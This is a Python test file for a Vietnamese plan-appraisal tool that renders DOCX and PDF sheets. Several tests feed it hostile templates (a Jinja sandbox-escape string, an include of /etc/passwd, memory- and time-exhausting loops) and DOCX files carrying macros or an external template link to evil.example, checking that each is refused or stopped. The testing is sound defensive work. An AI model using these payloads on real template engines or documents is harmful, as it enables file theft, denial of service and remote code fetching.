"""The appraisal sheet: what it says, the form it has, the templates offices make, and what a bad one gets."""

import re
import subprocess
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from docx import Document
from docx.shared import Mm

from tests.command_line import PROGRAM, thamdinh
from tests.plans import problems
from tests.programs import needed
from tests.reports import EXAMPLES, HOSTILE, WAIVED, hostile, of, report_on
from thamdinh.engine.base.isolation import isolated_already
from thamdinh.engine.base.limits import Limits
from thamdinh.engine.base.problem import Problem
from thamdinh.engine.documents.results import is_result
from thamdinh.engine.evaluation.verdict import Report
from thamdinh.engine.reporters import Options, render
from thamdinh.engine.reporters.docx import read_template
from thamdinh.engine.reporters.templates import built_in

BREACHED = EXAMPLES / "breached" / "lay-phieu.yaml"
FORCE = EXAMPLES / "compliant" / "cong-an-huyen-ba-tri.yaml"


def sheet_of(report: Report, **options: Any) -> Any:
    with isolated_already():
        return Document(BytesIO(render("docx", report, Options(**options))))


def full(*inputs: Path | str) -> Report:
    return report_on(*inputs, passes=True, outlined=True)


def text_of(document: Any) -> str:
    tables = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *tables])


def template(folder: Path, *paragraphs: str) -> Path:
    document = Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.save(str(folder / "mau.docx"))
    return folder / "mau.docx"


def rewritten(source: Path, target: Path, changes: dict[str, tuple[str, str]], **more: bytes) -> Path:
    """A copy of a package with text replaced in some of its parts, and parts added."""
    with ZipFile(source) as old, ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode("utf-8", "surrogateescape")
            if name in changes:
                assert changes[name][0] in content
                content = content.replace(*changes[name], 1)
            new.writestr(name, content.encode("utf-8", "surrogateescape"))
        for name, added in more.items():
            new.writestr(name, added)
    return target


def faults(report: Report, path: Path) -> tuple[Problem, ...]:
    with isolated_already():
        return problems(lambda: render("docx", report, Options(template=path)))


@pytest.mark.long
def test_the_sheet_says_verdict_findings_by_clause_what_held_and_what_does_not_apply() -> None:
    report = full(BREACHED)
    (verdict,) = report.verdicts
    text = text_of(sheet_of(report))
    assert "3. Kết luận: CHƯA ĐẠT" in text
    assert "5 lỗi, 1 cảnh báo, 0 khuyến nghị." in text
    for finding in verdict.findings:
        assert finding.message.vi in text
        assert finding.fix.vi in text
    handbook = report.handbooks[report.directive]
    clauses = [name for name in handbook.clauses if f"{name}. {handbook.clauses[name].text.vi}" in text]
    assert clauses == ["D10", "D12", "D13", "D14"]
    assert [text.index(f"{name}. ") for name in clauses] == sorted(text.index(f"{name}. ") for name in clauses)
    assert "TD501; số đối tượng: 11" in text
    assert "TD102, TD601: kế hoạch không có đối tượng mà quy tắc này xét." in text


@pytest.mark.long
def test_the_sheet_of_a_force_says_why_the_rest_does_not_apply() -> None:
    text = text_of(sheet_of(full(FORCE)))
    assert "3. Kết luận: ĐẠT" in text
    assert re.search(r"TD101, TD102.*: theo D15: Lực lượng vũ trang", text)


def test_an_invalid_plan_has_its_problems_and_no_section_that_reads_as_if_all_were_well() -> None:
    text = text_of(sheet_of(full(EXAMPLES / "invalid" / "sai-mau.yaml")))
    assert "KHÔNG THẨM ĐỊNH ĐƯỢC" in text
    assert "PL002" in text
    for words in ("Không có.", "ĐẠT\n", "0 lỗi"):
        assert words not in text


def test_a_waived_finding_says_so() -> None:
    report = full(BREACHED)
    (verdict,) = report.verdicts
    first, *others = verdict.findings
    verdict = replace(verdict, findings=(replace(first, waived=WAIVED), *others))
    text = text_of(sheet_of(replace(report, verdicts=(verdict,))))
    assert "(không tính: Tỉnh ủy đồng ý; 15-CV/HU)" in text
    assert "; 1 mục không tính." in text


def test_the_english_sheet_is_english() -> None:
    text = text_of(sheet_of(full(BREACHED), language="en"))
    for words in ("APPRAISAL SHEET", "NON-COMPLIANT", "How to mend it", "No ballot is taken on"):
        assert words in text
    for words in ("PHIẾU", "Kết luận", "Nơi nhận", "cách", "lỗi"):
        assert words not in text


def test_the_form_is_that_of_a_document_of_the_party() -> None:
    document = sheet_of(full(BREACHED))
    (section,) = document.sections
    assert [round(side / Mm(1)) for side in (section.page_width, section.page_height)] == [210, 297]
    assert [round(side / Mm(1)) for side in (section.top_margin, section.bottom_margin)] == [20, 20]
    assert [round(side / Mm(1)) for side in (section.left_margin, section.right_margin)] == [30, 15]
    assert document.styles["Normal"].font.name == "Times New Roman"
    assert section.different_first_page_header_footer
    left, right = document.tables[0].rows[0].cells
    assert [paragraph.text for paragraph in left.paragraphs][:2] == ["HUYỆN ỦY THẠNH PHÚ", "*"]
    party, date = right.paragraphs
    assert party.text == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert party.runs[0].bold
    assert party.runs[0].underline
    assert date.text.startswith("Thạnh Phú, ngày")
    assert date.runs[0].italic
    copies, signature = document.tables[-1].rows[0].cells
    assert copies.text.splitlines()[0] == "Nơi nhận:"
    assert copies.text.splitlines()[-1] == "- Lưu hồ sơ."
    assert "Chữ ký" in signature.text


@pytest.mark.long
@pytest.mark.usefixtures("in_this_process")
def test_hostile_names_are_text_in_the_sheet() -> None:
    for name in HOSTILE:
        report = hostile(name)
        content = render("docx", replace(report, verdicts=report.verdicts[:1]), Options())
        with ZipFile(BytesIO(content)) as archive:
            parts = set(archive.namelist())
        with ZipFile(built_in("vi")) as archive:
            assert parts == set(archive.namelist())
        shown = "".join(mark if mark.isprintable() else "\ufffd" for mark in name)
        assert shown in text_of(Document(BytesIO(content))), name


def test_an_office_uses_a_template_of_its_own(tmp_path: Path) -> None:
    made = template(
        tmp_path,
        "VĂN PHÒNG HUYỆN ỦY: {{ to_chuc.ten }} {% if dat %}đạt{% else %}chưa đạt{% endif %}",
        "{%p for dieu in cac_dieu %}",
        "{{ dieu.ma }}: {{ dieu.cac_muc|length }}",
        "{%p endfor %}",
    )
    text = text_of(sheet_of(full(BREACHED), template=made))
    assert text.splitlines() == [
        "VĂN PHÒNG HUYỆN ỦY: Đảng bộ thị trấn Thạnh Phú chưa đạt",
        *("D10: 2", "D12: 1", "D13: 1", "D14: 2"),
    ]


@pytest.mark.usefixtures("in_this_process")
@pytest.mark.parametrize(
    ("paragraph", "words"),
    [
        ("{{ to_chuc.tên }}", "không có tên “tên”; có phải ý là “ten”?"),
        ("{{ ket_lun }}", "không có tên “ket_lun”; có phải ý là “ket_luan”?"),
        ("{% for muc in cac_dieu %}", "sai cú pháp ("),
        ("{{ to_chuc.ten", "sai cú pháp ("),
        ("{{ ''.__class__.__mro__ }}", "lệnh này không được phép"),
        ("{{ cac_dieu.append(1) }}", "lệnh này không được phép"),
        ("{% include '/etc/passwd' %}", "loader"),
        ("{% for a in range(10**9) %}x{% endfor %}", "Range"),
    ],
)
def test_a_template_at_fault_is_told_with_the_reason(tmp_path: Path, paragraph: str, words: str) -> None:
    (problem,) = faults(full(BREACHED), template(tmp_path, paragraph))
    assert words in problem.message.vi
    assert problem.place.file.endswith("mau.docx")


@pytest.mark.long
@pytest.mark.parametrize(
    ("content", "limits", "said"),
    [
        (
            "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}",
            Limits(seconds=1),
            "1 s",
        ),
        ("{{ 'x' * 900000000 }}", Limits(memory=300), "300 MB"),
    ],
    ids=["never ends", "fills the memory"],
)
def test_a_template_that_goes_beyond_a_limit_is_ended(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str, limits: Limits, said: str
) -> None:
    monkeypatch.setattr("thamdinh.engine.reporters.docx.LIMITS", limits)
    path, report = template(tmp_path, content), full(BREACHED)
    (problem,) = problems(lambda: render("docx", report, Options(template=path)))
    assert said in problem.message.en


def test_a_file_that_is_no_safe_word_document_is_refused(tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    plain.write_text("{{ to_chuc.ten }}")
    outside = '<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    rels = "word/_rels/document.xml.rels"
    fetching = rewritten(
        built_in("vi"), tmp_path / "outside.docx", {rels: ("</Relationships>", f"{outside}</Relationships>")}
    )
    macros = rewritten(built_in("vi"), tmp_path / "macros.docx", {}, **{"word/vbaProject.bin": b"x"})
    for path in (plain, fetching, macros, tmp_path / "nowhere.docx", tmp_path):
        (problem,) = problems(lambda path=path: read_template(path))  # type: ignore[misc]
        assert problem.code == "PL006"


@pytest.mark.long
def test_a_sheet_is_about_one_plan() -> None:
    for report in (of(), full(EXAMPLES / "breached")):
        (problem,) = problems(lambda report=report: render("docx", report, Options()))  # type: ignore[misc]
        assert "docx=THƯ_MỤC/" in problem.fix.vi


@pytest.mark.long
def test_many_plans_give_a_folder_of_sheets(tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    (plans / "a").mkdir(parents=True)
    for path in (plans / "x.yaml", plans / "a" / "x.yaml"):
        path.write_bytes(BREACHED.read_bytes())
    (plans / "hỏng.yaml").write_text("schema: [")
    done = thamdinh("lint", "plans", "-q", "--output-file", "docx=phieu/", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr == ""
    made = sorted(path.name for path in (tmp_path / "phieu").iterdir())
    assert made == ["phieu-hỏng.docx", "phieu-x-2.docx", "phieu-x.docx"]


@pytest.mark.long
def test_the_template_is_copied_edited_and_named_in_the_settings(tmp_path: Path) -> None:
    plan, mine = tmp_path / "plan.yaml", tmp_path / "mau.docx"
    plan.write_bytes(BREACHED.read_bytes())
    assert thamdinh("template", mine).returncode == 0
    assert thamdinh("template", mine).returncode == 2
    assert thamdinh("template", tmp_path / "mau.odt").returncode == 2
    document = Document(str(mine))
    document.paragraphs[0].insert_paragraph_before("MẪU CỦA HUYỆN")
    document.save(str(mine))
    (tmp_path / "thamdinh.toml").write_text('appraisal-template = "mau.docx"\noutput-file = ["docx=phieu.docx"]\n')
    assert thamdinh("lint", plan, cwd=tmp_path).returncode == 1
    assert "MẪU CỦA HUYỆN" in text_of(Document(str(tmp_path / "phieu.docx")))


@pytest.mark.process
def test_the_format_is_printed_to_files_and_pipes_and_not_to_a_terminal() -> None:
    done = subprocess.run([PROGRAM, "lint", BREACHED, "--format", "docx"], capture_output=True, check=False)
    assert done.returncode == 1
    assert done.stdout.startswith(b"PK")
    pty = pytest.importorskip("pty")
    _, terminal = pty.openpty()
    done = subprocess.run(
        [PROGRAM, "lint", BREACHED, "--format", "docx"], stdout=terminal, stderr=subprocess.PIPE, check=False
    )
    assert done.returncode == 2
    assert "--output-file docx=" in done.stderr.decode()


@pytest.mark.office
def test_the_sheet_becomes_pdf_with_its_words_and_page_numbers(tmp_path: Path) -> None:
    needed("soffice", "libreoffice")
    pdftotext = needed("pdftotext")
    path = tmp_path / "phieu.pdf"
    path.write_bytes(render("pdf", full(BREACHED), Options()))
    assert is_result(path)
    text = subprocess.run([pdftotext, "-layout", path, "-"], capture_output=True, encoding="utf-8", check=True).stdout
    first, second, *_ = text.split("\f")
    assert "PHIẾU THẨM ĐỊNH" in first
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in first
    assert second.strip().startswith("2")
    assert "Nơi nhận" in text


@pytest.mark.office
def test_many_sheets_become_pdf_in_one_go(tmp_path: Path) -> None:
    needed("soffice", "libreoffice")
    plans = sorted((EXAMPLES / "breached").iterdir())[:3]
    done = thamdinh("lint", *plans, "-q", "--output-file", "pdf=pdf", f"pdf={tmp_path}/", cwd=tmp_path)
    assert "3 kế hoạch" in done.stdout
    assert "docx=THƯ_MỤC/" in done.stderr
    made = sorted(tmp_path.glob("phieu-*.pdf"))
    assert len(made) == 3
    assert all(path.read_bytes().startswith(b"%PDF") for path in made)


def test_without_libreoffice_pdf_says_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("thamdinh.engine.reporters.libreoffice.shutil.which", lambda name: None)
    (problem,) = problems(lambda: render("pdf", full(BREACHED), Options()))
    assert "LibreOffice" in problem.message.vi
    assert "docx" in problem.fix.vi


@pytest.mark.parametrize("language", ["vi", "en"])
def test_the_built_in_templates_are_those_that_the_tool_makes(language: str, tmp_path: Path, request: Any) -> None:
    build: Callable[..., Any] = load_tool(request.config.rootpath / "tools" / "appraisal_template.py")
    made = build(language)
    made.save(str(tmp_path / "made.docx"))
    with ZipFile(tmp_path / "made.docx") as ours, ZipFile(built_in(language)) as kept:  # type: ignore[arg-type]
        for part in ("word/document.xml", "word/header1.xml"):
            assert ours.read(part) == kept.read(part)


def load_tool(path: Path) -> Callable[[str], Any]:
    from importlib.util import module_from_spec, spec_from_file_location

    spec = spec_from_file_location("appraisal_template", path)
    assert spec is not None
    assert spec.loader is not None
    module = module_from_spec(spec)
    spec.loader.exec_module(module)
    return lambda language: module.build(module.WORDS[language])
